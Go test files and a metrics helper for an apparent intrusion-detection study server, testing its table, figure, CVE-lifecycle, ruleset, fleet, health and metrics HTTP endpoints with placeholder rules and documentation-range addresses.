	if len(out.Points) < 2 {
		t.Fatalf("skill series has %d points, want >= 2", len(out.Points))
	}
	for i := 1; i < len(out.Points); i++ {
		if out.Points[i].Events < out.Points[i-1].Events {
			t.Errorf("event coverage shrank between samples %d and %d", i-1, i)
		}
	}
	if rec := f.get(t, "/v1/skill?from="+from+"&to="+to+"&step_days=0"); rec.Code != http.StatusBadRequest {
		t.Errorf("step_days=0 gave %d, want 400", rec.Code)
	}
}

// TestTimelineMetrics: the timeline gauges appear exactly when an engine is
// configured.
func TestTimelineMetrics(t *testing.T) {
	f := newAsofFixture(t)
	body := f.getOK(t, "/metrics").Body.String()
	for _, want := range []string{
		"waybackd_timeline_segments 1",
		"waybackd_timeline_sealed_bytes",
		"waybackd_timeline_sealed_events",
		"waybackd_timeline_checkpoints 1",
		"waybackd_timeline_checkpoint_age_seconds",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("metrics missing %q", want)
		}
	}
	if strings.Contains(body, "timeline_checkpoint_age_seconds -1") {
		t.Error("checkpoint age reported as none despite a checkpoint")
	}

	plain := newFixture(t)
	if body := plain.getOK(t, "/metrics").Body.String(); strings.Contains(body, "waybackd_timeline_") {
		t.Error("timeline gauges present without an engine")
	}
}
