package serve

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/registry"
	"repro/internal/tcpasm"
)

func TestRulesetEndpoints(t *testing.T) {
	f := newFixture(t)
	reg, err := registry.Open(registry.Config{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { reg.Close() })
	srv, err := New(Config{
		Study: f.study, Store: f.srv.cfg.Store,
		Registry: reg, RescanBacklogMax: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	do := func(method, path, body string) *httptest.ResponseRecorder {
		t.Helper()
		var r *httptest.ResponseRecorder = httptest.NewRecorder()
		req := httptest.NewRequest(method, path, strings.NewReader(body))
		srv.Handler().ServeHTTP(r, req)
		return r
	}

	rec := do("GET", "/v1/ruleset", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("GET /v1/ruleset: %d: %s", rec.Code, rec.Body.String())
	}
	var state struct {
		Generation    uint64 `json:"generation"`
		Rules         int    `json:"rules"`
		RescanNeeded  bool   `json:"rescan_needed"`
		RescanPending int64  `json:"rescan_pending"`
		Ruleset       string `json:"ruleset"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &state); err != nil {
		t.Fatal(err)
	}
	if state.Generation != 0 || state.Rules != 0 {
		t.Fatalf("fresh registry state: %+v", state)
	}

	// Publish a delta over HTTP: engine swaps, generation moves.
	delta := "# published: 2021-09-01T00:00:00Z\n" +
		`alert tcp any any -> any any (msg:"posted"; content:"zzz-token"; reference:cve,2021-2000; sid:700001; rev:1;)` + "\n"
	rec = do("POST", "/v1/ruleset", delta)
	if rec.Code != http.StatusOK {
		t.Fatalf("POST /v1/ruleset: %d: %s", rec.Code, rec.Body.String())
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &state); err != nil {
		t.Fatal(err)
	}
	if state.Generation != 1 || state.Rules != 1 || !state.RescanNeeded {
		t.Fatalf("post-publish state: %+v", state)
	}
	if n := reg.Engine().NumRules(); n != 1 {
		t.Fatalf("live engine has %d rules, want 1", n)
	}

	// Malformed deltas are rejected loudly, not journaled.
	rec = do("POST", "/v1/ruleset", "alert tcp any any -> any any (msg:\"no sid\";)")
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("malformed publish: %d", rec.Code)
	}
	if reg.Generation() != 1 {
		t.Fatalf("malformed publish moved the generation to %d", reg.Generation())
	}

	// ?full=1 returns the dated ruleset text.
	rec = do("GET", "/v1/ruleset?full=1", "")
	if err := json.Unmarshal(rec.Body.Bytes(), &state); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(state.Ruleset, "sid:700001") || !strings.Contains(state.Ruleset, "# published: 2021-09-01") {
		t.Fatalf("?full=1 ruleset text:\n%s", state.Ruleset)
	}

	// The rescan gauges are on /metrics.
	rec = do("GET", "/metrics", "")
	for _, want := range []string{
		"waybackd_ruleset_generation 1",
		"waybackd_ruleset_rules 1",
		"waybackd_ruleset_rescan_pending",
		"waybackd_ruleset_rescan_done",
	} {
		if !strings.Contains(rec.Body.String(), want) {
			t.Errorf("metrics missing %q", want)
		}
	}

	// Healthz degrades while the rescan backlog exceeds the threshold (1):
	// record two digests, publish again so they become pending.
	sessions := []tcpasm.Session{
		{
			Client: packet.Endpoint{Addr: packet.MustAddr("203.0.113.9"), Port: 40001},
			Server: packet.Endpoint{Addr: packet.MustAddr("18.204.7.9"), Port: 80},
			Start:  time.Date(2022, 3, 1, 0, 0, 0, 0, time.UTC), Complete: true,
			ClientData: []byte("benign"),
		},
		{
			Client: packet.Endpoint{Addr: packet.MustAddr("203.0.113.9"), Port: 40002},
			Server: packet.Endpoint{Addr: packet.MustAddr("18.204.7.9"), Port: 80},
			Start:  time.Date(2022, 3, 1, 1, 0, 0, 0, time.UTC), Complete: true,
			ClientData: []byte("zzz-token"),
		},
	}
	var digests []registry.Digest
	for i := range sessions {
		digests = append(digests, registry.DigestOf(&sessions[i], nil, 0))
	}
	if err := reg.RecordDigests(digests); err != nil {
		t.Fatal(err)
	}
	if _, err := reg.Publish(nil); err == nil {
		t.Fatal("empty publish must fail")
	}
	delta2 := "# published: 2021-10-01T00:00:00Z\n" +
		`alert tcp any any -> any any (msg:"two"; content:"second-sig"; sid:700002; rev:1;)` + "\n"
	rec = do("POST", "/v1/ruleset", delta2)
	if rec.Code != http.StatusOK {
		t.Fatalf("second publish: %d: %s", rec.Code, rec.Body.String())
	}
	rec = do("GET", "/healthz", "")
	if rec.Code != http.StatusServiceUnavailable || !strings.HasPrefix(rec.Body.String(), "degraded\n") {
		t.Fatalf("healthz with backlog 2 > max 1: %d %q", rec.Code, rec.Body.String())
	}
	if !strings.Contains(rec.Body.String(), "rescan_backlog 2") {
		t.Fatalf("healthz body missing backlog: %q", rec.Body.String())
	}

	// Running the rescan clears the backlog; one digest now matches the
	// gen-1 rule and becomes an addition amendment.
	rec = do("POST", "/v1/ruleset/rescan", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("POST rescan: %d: %s", rec.Code, rec.Body.String())
	}
	var stats struct {
		Digests   int `json:"digests"`
		Additions int `json:"additions"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &stats); err != nil {
		t.Fatal(err)
	}
	if stats.Digests != 2 || stats.Additions != 1 {
		t.Fatalf("rescan stats: %+v", stats)
	}
	rec = do("GET", "/healthz", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("healthz after rescan: %d %q", rec.Code, rec.Body.String())
	}
}

func TestRulesetEndpointsDisabled(t *testing.T) {
	f := newFixture(t)
	for _, req := range []struct{ method, path string }{
		{"GET", "/v1/ruleset"},
		{"POST", "/v1/ruleset"},
		{"POST", "/v1/ruleset/rescan"},
	} {
		r := httptest.NewRequest(req.method, req.path, strings.NewReader(""))
		rec := httptest.NewRecorder()
		f.srv.Handler().ServeHTTP(rec, r)
		if rec.Code != http.StatusNotFound {
			t.Errorf("%s %s without registry: %d", req.method, req.path, rec.Code)
		}
	}
}
