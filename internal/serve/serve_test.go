package serve

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"fmt"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fleet"
	"repro/internal/ids"
	"repro/wayback"
)

type fixture struct {
	study *wayback.Study
	batch *wayback.Results
	srv   *Server
	store interface {
		AppendBatch([]ids.Event) error
	}
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, PipelineTimelines: true})
	if err != nil {
		t.Fatal(err)
	}
	batch, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}
	store, err := wayback.OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	if err := store.AppendBatch(batch.Events); err != nil {
		t.Fatal(err)
	}
	srv, err := New(Config{Study: study, Store: store})
	if err != nil {
		t.Fatal(err)
	}
	return &fixture{study: study, batch: batch, srv: srv, store: store}
}

func (f *fixture) get(t *testing.T, path string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest("GET", path, nil)
	rec := httptest.NewRecorder()
	f.srv.Handler().ServeHTTP(rec, req)
	return rec
}

func (f *fixture) getOK(t *testing.T, path string) *httptest.ResponseRecorder {
	t.Helper()
	rec := f.get(t, path)
	if rec.Code != http.StatusOK {
		t.Fatalf("GET %s: %d: %s", path, rec.Code, rec.Body.String())
	}
	return rec
}

func TestHealthz(t *testing.T) {
	f := newFixture(t)
	got := f.getOK(t, "/healthz").Body.String()
	if !strings.HasPrefix(got, "ok\n") {
		t.Fatalf("healthz said %q", got)
	}
	for _, want := range []string{"ingest_lag", "fleet_lag", "store_age_seconds"} {
		if !strings.Contains(got, want) {
			t.Errorf("healthz missing %q:\n%s", want, got)
		}
	}
}

// TestTablesMatchBatchRun: every table endpoint returns exactly what the
// batch study renders for the same events.
func TestTablesMatchBatchRun(t *testing.T) {
	f := newFixture(t)
	want := map[string]string{
		"1": f.batch.Table1().String(),
		"2": f.batch.Table2().String(),
		"3": f.batch.Table3(),
		"4": f.batch.Table4().String(),
		"5": f.batch.Table5().String(),
		"6": f.batch.Table6().String(),
		"E": f.batch.AppendixE().String(),
	}
	for n, text := range want {
		rec := f.getOK(t, "/v1/tables/"+n)
		if rec.Body.String() != text {
			t.Errorf("table %s differs from batch run:\n%s", n, rec.Body.String())
		}
	}
	if rec := f.get(t, "/v1/tables/9"); rec.Code != http.StatusNotFound {
		t.Errorf("table 9 gave %d, want 404", rec.Code)
	}
}

// TestGenerationCache: unchanged store means cache hits; an append
// invalidates exactly by bumping the generation.
func TestGenerationCache(t *testing.T) {
	f := newFixture(t)
	first := f.getOK(t, "/v1/tables/4")
	hits0, misses0 := f.srv.CacheStats()
	if misses0 == 0 {
		t.Fatal("first request was not a miss")
	}
	second := f.getOK(t, "/v1/tables/4")
	hits1, misses1 := f.srv.CacheStats()
	if hits1 != hits0+1 || misses1 != misses0 {
		t.Fatalf("second request hits %d->%d misses %d->%d", hits0, hits1, misses0, misses1)
	}
	if first.Body.String() != second.Body.String() {
		t.Fatal("cached body differs")
	}
	if first.Header().Get("X-Store-Generation") == "" {
		t.Fatal("no generation header")
	}
	// A CVE-less event bumps the generation without changing Table 4.
	if err := f.store.AppendBatch([]ids.Event{{SID: 999999, Msg: "unattributed"}}); err != nil {
		t.Fatal(err)
	}
	third := f.getOK(t, "/v1/tables/4")
	_, misses2 := f.srv.CacheStats()
	if misses2 != misses0+1 {
		t.Fatalf("append did not invalidate: misses %d -> %d", misses0, misses2)
	}
	if third.Body.String() != first.Body.String() {
		t.Fatal("unattributed event changed Table 4")
	}
	if third.Header().Get("X-Store-Generation") == first.Header().Get("X-Store-Generation") {
		t.Fatal("generation header did not advance")
	}
}

func TestLifecycleEndpoint(t *testing.T) {
	f := newFixture(t)
	// Accepts the canonical "CVE-" prefix and the bare form.
	for _, path := range []string{"/v1/lifecycles/CVE-2021-44228", "/v1/lifecycles/2021-44228"} {
		rec := f.getOK(t, path)
		var got struct {
			CVE        string            `json:"cve"`
			EventCount int               `json:"event_count"`
			Events     map[string]string `json:"events"`
		}
		if err := json.Unmarshal(rec.Body.Bytes(), &got); err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		if got.CVE != "CVE-2021-44228" || got.EventCount == 0 {
			t.Fatalf("%s: %+v", path, got)
		}
		for _, letter := range []string{"A", "F"} {
			if got.Events[letter] == "" {
				t.Errorf("%s: missing %s event: %v", path, letter, got.Events)
			}
		}
	}
	if rec := f.get(t, "/v1/lifecycles/CVE-1999-0001"); rec.Code != http.StatusNotFound {
		t.Errorf("unknown CVE gave %d, want 404", rec.Code)
	}
}

func TestEventsEndpoint(t *testing.T) {
	f := newFixture(t)
	var all struct {
		Generation uint64 `json:"generation"`
		Total      int    `json:"total"`
		Events     []struct {
			CVE string `json:"cve"`
			Src string `json:"src"`
		} `json:"events"`
	}
	rec := f.getOK(t, "/v1/events?limit=10")
	if err := json.Unmarshal(rec.Body.Bytes(), &all); err != nil {
		t.Fatal(err)
	}
	if all.Total != len(f.batch.Events) {
		t.Fatalf("total %d, want %d", all.Total, len(f.batch.Events))
	}
	if len(all.Events) != 10 || all.Generation == 0 {
		t.Fatalf("limit ignored: %d events, generation %d", len(all.Events), all.Generation)
	}
	if !strings.Contains(all.Events[0].Src, ":") {
		t.Fatalf("src not addr:port: %q", all.Events[0].Src)
	}

	rec = f.getOK(t, "/v1/events?cve=CVE-2021-44228")
	var filtered struct {
		Total  int `json:"total"`
		Events []struct {
			CVE string `json:"cve"`
		} `json:"events"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &filtered); err != nil {
		t.Fatal(err)
	}
	if filtered.Total == 0 || filtered.Total >= all.Total {
		t.Fatalf("cve filter total %d (all %d)", filtered.Total, all.Total)
	}
	for _, ev := range filtered.Events {
		if ev.CVE != "2021-44228" {
			t.Fatalf("filter leaked %q", ev.CVE)
		}
	}
	if rec := f.get(t, "/v1/events?since=notatime"); rec.Code != http.StatusBadRequest {
		t.Errorf("bad since gave %d", rec.Code)
	}
}

func TestFigureEndpoints(t *testing.T) {
	f := newFixture(t)
	for _, id := range []string{"1", "2", "3", "4", "5", "6", "7", "8", "9", "10", "11", "12", "13", "18"} {
		rec := f.getOK(t, "/v1/figures/"+id)
		body := rec.Body.String()
		if body == "" {
			t.Errorf("figure %s: empty body", id)
			continue
		}
		header := strings.SplitN(body, "\n", 2)[0]
		if !strings.Contains(header, ",") {
			t.Errorf("figure %s: first line not CSV: %q", id, header)
		}
	}
	if rec := f.get(t, "/v1/figures/19"); rec.Code != http.StatusNotFound {
		t.Errorf("figure 19 gave %d, want 404", rec.Code)
	}
	if rec := f.get(t, "/v1/figures/x"); rec.Code != http.StatusNotFound {
		t.Errorf("figure x gave %d, want 404", rec.Code)
	}
}

func TestMetricsEndpoint(t *testing.T) {
	f := newFixture(t)
	body := f.getOK(t, "/metrics").Body.String()
	for _, want := range []string{"waybackd_store_events ", "waybackd_store_generation ", "waybackd_cache_hits "} {
		if !strings.Contains(body, want) {
			t.Errorf("metrics missing %q:\n%s", want, body)
		}
	}
	if strings.Contains(body, "waybackd_ingest_") {
		t.Error("ingest metrics present without a pipeline")
	}
}

// fakeFleet implements FleetSource for tests.
type fakeFleet struct {
	sensors []fleet.SensorStatus
}

func (f *fakeFleet) Sensors() []fleet.SensorStatus    { return f.sensors }
func (f *fakeFleet) Totals() (uint64, uint64, uint64) { return 12, 3400, 2 }

func TestFleetEndpoint(t *testing.T) {
	f := newFixture(t)
	// Without a fleet listener the endpoint is 404.
	if rec := f.get(t, "/v1/fleet"); rec.Code != http.StatusNotFound {
		t.Fatalf("fleet without listener gave %d", rec.Code)
	}

	ff := &fakeFleet{sensors: []fleet.SensorStatus{
		{ID: "s0", Shard: 0, Shards: 3, Codec: "snappy", Connected: true, Watermark: 40, Events: 1000},
		{ID: "s1", Shard: 1, Shards: 3, Codec: "snappy", Connected: false, Watermark: 38, Events: 900, SpooledBatches: 4, IngestLag: 2},
	}}
	srv, err := New(Config{Study: f.study, Store: f.store.(*eventstore.Store), Fleet: ff})
	if err != nil {
		t.Fatal(err)
	}
	req := httptest.NewRequest("GET", "/v1/fleet", nil)
	rec := httptest.NewRecorder()
	srv.Handler().ServeHTTP(rec, req)
	if rec.Code != http.StatusOK {
		t.Fatalf("fleet gave %d: %s", rec.Code, rec.Body.String())
	}
	var got struct {
		Sensors    []fleet.SensorStatus `json:"sensors"`
		Batches    uint64               `json:"batches"`
		Events     uint64               `json:"events"`
		DupBatches uint64               `json:"dup_batches"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	if len(got.Sensors) != 2 || got.Batches != 12 || got.Events != 3400 || got.DupBatches != 2 {
		t.Fatalf("fleet body %+v", got)
	}
	if got.Sensors[1].SpooledBatches != 4 {
		t.Fatalf("sensor detail lost: %+v", got.Sensors[1])
	}

	// Fleet gauges and healthz fleet_lag come from the same source.
	req = httptest.NewRequest("GET", "/metrics", nil)
	rec = httptest.NewRecorder()
	srv.Handler().ServeHTTP(rec, req)
	metrics := rec.Body.String()
	for _, want := range []string{
		"waybackd_fleet_sensors 2",
		"waybackd_fleet_dup_batches 2",
		`waybackd_fleet_sensor_connected{sensor="s0"} 1`,
		`waybackd_fleet_sensor_connected{sensor="s1"} 0`,
		`waybackd_fleet_sensor_watermark{sensor="s0"} 40`,
		`waybackd_fleet_sensor_spooled_batches{sensor="s1"} 4`,
	} {
		if !strings.Contains(metrics, want) {
			t.Errorf("metrics missing %q", want)
		}
	}
	req = httptest.NewRequest("GET", "/healthz", nil)
	rec = httptest.NewRecorder()
	srv.Handler().ServeHTTP(rec, req)
	if !strings.Contains(rec.Body.String(), "fleet_lag 6") { // 4 spooled + 2 ingest lag
		t.Errorf("healthz fleet_lag wrong:\n%s", rec.Body.String())
	}
}

// commitFleet is a fakeFleet that also reports group-commit stats, like the
// concrete *fleet.Listener.
type commitFleet struct{ fakeFleet }

func (f *commitFleet) CommitStats() fleet.CommitStats {
	return fleet.CommitStats{
		Commits: 7, CoalescedBatches: 21, LastBatches: 5,
		LastFsyncNanos: 2_500_000, QueueDepth: 3,
	}
}

func TestMetricsCommitGauges(t *testing.T) {
	f := newFixture(t)

	// A source without CommitStats (the minimal interface) emits no commit
	// gauges rather than zeros that would look like a stalled committer.
	srv, err := New(Config{Study: f.study, Store: f.store.(*eventstore.Store), Fleet: &fakeFleet{}})
	if err != nil {
		t.Fatal(err)
	}
	req := httptest.NewRequest("GET", "/metrics", nil)
	rec := httptest.NewRecorder()
	srv.Handler().ServeHTTP(rec, req)
	if strings.Contains(rec.Body.String(), "fleet_commits_total") {
		t.Fatalf("commit gauges emitted without a CommitStats source:\n%s", rec.Body.String())
	}

	srv, err = New(Config{Study: f.study, Store: f.store.(*eventstore.Store), Fleet: &commitFleet{}})
	if err != nil {
		t.Fatal(err)
	}
	rec = httptest.NewRecorder()
	srv.Handler().ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	metrics := rec.Body.String()
	for _, want := range []string{
		"waybackd_fleet_commits_total 7",
		"waybackd_fleet_commit_coalesced_batches_total 21",
		"waybackd_fleet_commit_queue_depth 3",
		"waybackd_fleet_commit_last_batches 5",
		"waybackd_fleet_commit_last_fsync_seconds 0.0025",
	} {
		if !strings.Contains(metrics, want) {
			t.Errorf("metrics missing %q:\n%s", want, metrics)
		}
	}
}

func TestHealthzStaleness(t *testing.T) {
	f := newFixture(t)
	srv, err := New(Config{Study: f.study, Store: f.store.(*eventstore.Store), StaleAfter: 50 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	serveHealthz := func() *httptest.ResponseRecorder {
		req := httptest.NewRequest("GET", "/healthz", nil)
		rec := httptest.NewRecorder()
		srv.Handler().ServeHTTP(rec, req)
		return rec
	}
	// Fresh server: the store was appended to during fixture setup, but the
	// clock starts at server creation, so it is healthy now.
	if rec := serveHealthz(); rec.Code != http.StatusOK {
		t.Fatalf("fresh server stale: %d %s", rec.Code, rec.Body.String())
	}
	// Past the window with no new events: degraded.
	time.Sleep(80 * time.Millisecond)
	rec := serveHealthz()
	if rec.Code != http.StatusServiceUnavailable || !strings.HasPrefix(rec.Body.String(), "stale\n") {
		t.Fatalf("stale server gave %d %q", rec.Code, rec.Body.String())
	}
	// A new append revives it.
	if err := f.store.AppendBatch([]ids.Event{{SID: 1, Msg: "ping"}}); err != nil {
		t.Fatal(err)
	}
	if rec := serveHealthz(); rec.Code != http.StatusOK {
		t.Fatalf("append did not revive healthz: %d %s", rec.Code, rec.Body.String())
	}
}

func TestMetricsShardGauges(t *testing.T) {
	f := newFixture(t)
	body := f.getOK(t, "/metrics").Body.String()
	if !strings.Contains(body, `waybackd_store_shard_records{shard="0"} `) {
		t.Fatalf("metrics missing per-shard records:\n%s", body)
	}
	if !strings.Contains(body, `waybackd_store_shard_last_append_seconds{shard="0"} `) {
		t.Fatal("metrics missing per-shard last append")
	}
	// Shard gauges must sum to the store total.
	var total int
	for _, line := range strings.Split(body, "\n") {
		if strings.HasPrefix(line, "waybackd_store_shard_records{") {
			var n int
			if _, err := fmt.Sscanf(line[strings.LastIndexByte(line, ' ')+1:], "%d", &n); err != nil {
				t.Fatalf("bad gauge line %q", line)
			}
			total += n
		}
	}
	if total != len(f.batch.Events) {
		t.Fatalf("shard records sum to %d, store holds %d", total, len(f.batch.Events))
	}
}
