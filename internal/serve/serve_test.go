package serve

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"repro/internal/ids"
	"repro/wayback"
)

type fixture struct {
	study *wayback.Study
	batch *wayback.Results
	srv   *Server
	store interface {
		AppendBatch([]ids.Event) error
	}
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, PipelineTimelines: true})
	if err != nil {
		t.Fatal(err)
	}
	batch, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}
	store, err := wayback.OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	if err := store.AppendBatch(batch.Events); err != nil {
		t.Fatal(err)
	}
	srv, err := New(Config{Study: study, Store: store})
	if err != nil {
		t.Fatal(err)
	}
	return &fixture{study: study, batch: batch, srv: srv, store: store}
}

func (f *fixture) get(t *testing.T, path string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest("GET", path, nil)
	rec := httptest.NewRecorder()
	f.srv.Handler().ServeHTTP(rec, req)
	return rec
}

func (f *fixture) getOK(t *testing.T, path string) *httptest.ResponseRecorder {
	t.Helper()
	rec := f.get(t, path)
	if rec.Code != http.StatusOK {
		t.Fatalf("GET %s: %d: %s", path, rec.Code, rec.Body.String())
	}
	return rec
}

func TestHealthz(t *testing.T) {
	f := newFixture(t)
	if got := f.getOK(t, "/healthz").Body.String(); got != "ok\n" {
		t.Fatalf("healthz said %q", got)
	}
}

// TestTablesMatchBatchRun: every table endpoint returns exactly what the
// batch study renders for the same events.
func TestTablesMatchBatchRun(t *testing.T) {
	f := newFixture(t)
	want := map[string]string{
		"1": f.batch.Table1().String(),
		"2": f.batch.Table2().String(),
		"3": f.batch.Table3(),
		"4": f.batch.Table4().String(),
		"5": f.batch.Table5().String(),
		"6": f.batch.Table6().String(),
		"E": f.batch.AppendixE().String(),
	}
	for n, text := range want {
		rec := f.getOK(t, "/v1/tables/"+n)
		if rec.Body.String() != text {
			t.Errorf("table %s differs from batch run:\n%s", n, rec.Body.String())
		}
	}
	if rec := f.get(t, "/v1/tables/9"); rec.Code != http.StatusNotFound {
		t.Errorf("table 9 gave %d, want 404", rec.Code)
	}
}

// TestGenerationCache: unchanged store means cache hits; an append
// invalidates exactly by bumping the generation.
func TestGenerationCache(t *testing.T) {
	f := newFixture(t)
	first := f.getOK(t, "/v1/tables/4")
	hits0, misses0 := f.srv.CacheStats()
	if misses0 == 0 {
		t.Fatal("first request was not a miss")
	}
	second := f.getOK(t, "/v1/tables/4")
	hits1, misses1 := f.srv.CacheStats()
	if hits1 != hits0+1 || misses1 != misses0 {
		t.Fatalf("second request hits %d->%d misses %d->%d", hits0, hits1, misses0, misses1)
	}
	if first.Body.String() != second.Body.String() {
		t.Fatal("cached body differs")
	}
	if first.Header().Get("X-Store-Generation") == "" {
		t.Fatal("no generation header")
	}
	// A CVE-less event bumps the generation without changing Table 4.
	if err := f.store.AppendBatch([]ids.Event{{SID: 999999, Msg: "unattributed"}}); err != nil {
		t.Fatal(err)
	}
	third := f.getOK(t, "/v1/tables/4")
	_, misses2 := f.srv.CacheStats()
	if misses2 != misses0+1 {
		t.Fatalf("append did not invalidate: misses %d -> %d", misses0, misses2)
	}
	if third.Body.String() != first.Body.String() {
		t.Fatal("unattributed event changed Table 4")
	}
	if third.Header().Get("X-Store-Generation") == first.Header().Get("X-Store-Generation") {
		t.Fatal("generation header did not advance")
	}
}

func TestLifecycleEndpoint(t *testing.T) {
	f := newFixture(t)
	// Accepts the canonical "CVE-" prefix and the bare form.
	for _, path := range []string{"/v1/lifecycles/CVE-2021-44228", "/v1/lifecycles/2021-44228"} {
		rec := f.getOK(t, path)
		var got struct {
			CVE        string            `json:"cve"`
			EventCount int               `json:"event_count"`
			Events     map[string]string `json:"events"`
		}
		if err := json.Unmarshal(rec.Body.Bytes(), &got); err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		if got.CVE != "CVE-2021-44228" || got.EventCount == 0 {
			t.Fatalf("%s: %+v", path, got)
		}
		for _, letter := range []string{"A", "F"} {
			if got.Events[letter] == "" {
				t.Errorf("%s: missing %s event: %v", path, letter, got.Events)
			}
		}
	}
	if rec := f.get(t, "/v1/lifecycles/CVE-1999-0001"); rec.Code != http.StatusNotFound {
		t.Errorf("unknown CVE gave %d, want 404", rec.Code)
	}
}

func TestEventsEndpoint(t *testing.T) {
	f := newFixture(t)
	var all struct {
		Generation uint64 `json:"generation"`
		Total      int    `json:"total"`
		Events     []struct {
			CVE string `json:"cve"`
			Src string `json:"src"`
		} `json:"events"`
	}
	rec := f.getOK(t, "/v1/events?limit=10")
	if err := json.Unmarshal(rec.Body.Bytes(), &all); err != nil {
		t.Fatal(err)
	}
	if all.Total != len(f.batch.Events) {
		t.Fatalf("total %d, want %d", all.Total, len(f.batch.Events))
	}
	if len(all.Events) != 10 || all.Generation == 0 {
		t.Fatalf("limit ignored: %d events, generation %d", len(all.Events), all.Generation)
	}
	if !strings.Contains(all.Events[0].Src, ":") {
		t.Fatalf("src not addr:port: %q", all.Events[0].Src)
	}

	rec = f.getOK(t, "/v1/events?cve=CVE-2021-44228")
	var filtered struct {
		Total  int `json:"total"`
		Events []struct {
			CVE string `json:"cve"`
		} `json:"events"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &filtered); err != nil {
		t.Fatal(err)
	}
	if filtered.Total == 0 || filtered.Total >= all.Total {
		t.Fatalf("cve filter total %d (all %d)", filtered.Total, all.Total)
	}
	for _, ev := range filtered.Events {
		if ev.CVE != "2021-44228" {
			t.Fatalf("filter leaked %q", ev.CVE)
		}
	}
	if rec := f.get(t, "/v1/events?since=notatime"); rec.Code != http.StatusBadRequest {
		t.Errorf("bad since gave %d", rec.Code)
	}
}

func TestFigureEndpoints(t *testing.T) {
	f := newFixture(t)
	for _, id := range []string{"1", "2", "3", "4", "5", "6", "7", "8", "9", "10", "11", "12", "13", "18"} {
		rec := f.getOK(t, "/v1/figures/"+id)
		body := rec.Body.String()
		if body == "" {
			t.Errorf("figure %s: empty body", id)
			continue
		}
		header := strings.SplitN(body, "\n", 2)[0]
		if !strings.Contains(header, ",") {
			t.Errorf("figure %s: first line not CSV: %q", id, header)
		}
	}
	if rec := f.get(t, "/v1/figures/19"); rec.Code != http.StatusNotFound {
		t.Errorf("figure 19 gave %d, want 404", rec.Code)
	}
	if rec := f.get(t, "/v1/figures/x"); rec.Code != http.StatusNotFound {
		t.Errorf("figure x gave %d, want 404", rec.Code)
	}
}

func TestMetricsEndpoint(t *testing.T) {
	f := newFixture(t)
	body := f.getOK(t, "/metrics").Body.String()
	for _, want := range []string{"waybackd_store_events ", "waybackd_store_generation ", "waybackd_cache_hits "} {
		if !strings.Contains(body, want) {
			t.Errorf("metrics missing %q:\n%s", want, body)
		}
	}
	if strings.Contains(body, "waybackd_ingest_") {
		t.Error("ingest metrics present without a pipeline")
	}
}
