package serve

import (
	"fmt"
	"io"
	"net/http"
	"sort"
	"strconv"
	"sync"
	"time"
)

// httpLatencyBuckets are the cumulative histogram bounds (seconds) for
// waybackd_http_request_seconds. The +Inf bucket is implicit. The range spans
// a cache hit (sub-millisecond) to a cold analysis rebuild, so a load rig's
// client-side percentiles can be cross-checked against server-side truth.
var httpLatencyBuckets = []float64{
	0.0005, 0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5, 1, 2.5,
}

// httpStats accumulates per-(route, status) latency histograms. Routes are
// the registered patterns ("/v1/tables/{n}"), not raw URLs, so cardinality is
// bounded by the API surface times the handful of status codes it answers.
type httpStats struct {
	mu sync.Mutex
	m  map[string]*routeStats
}

type routeStats struct {
	path    string
	code    string
	count   uint64
	sum     float64
	buckets []uint64 // cumulative-at-emission counts per httpLatencyBuckets bound
}

func (h *httpStats) observe(path string, code int, seconds float64) {
	key := path + " " + strconv.Itoa(code)
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.m == nil {
		h.m = make(map[string]*routeStats)
	}
	rs, ok := h.m[key]
	if !ok {
		rs = &routeStats{path: path, code: strconv.Itoa(code), buckets: make([]uint64, len(httpLatencyBuckets))}
		h.m[key] = rs
	}
	rs.count++
	rs.sum += seconds
	for i, le := range httpLatencyBuckets {
		if seconds <= le {
			rs.buckets[i]++
			break
		}
	}
}

// writeProm emits the histograms in Prometheus text exposition, routes sorted
// for deterministic output. Bucket counts are written cumulatively (each le
// bucket includes every faster request), per the exposition format.
func (h *httpStats) writeProm(w io.Writer) {
	h.mu.Lock()
	defer h.mu.Unlock()
	keys := make([]string, 0, len(h.m))
	for k := range h.m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		rs := h.m[k]
		var cum uint64
		for i, le := range httpLatencyBuckets {
			cum += rs.buckets[i]
			fmt.Fprintf(w, "waybackd_http_request_seconds_bucket{path=%q,code=%q,le=%q} %d\n",
				rs.path, rs.code, formatLE(le), cum)
		}
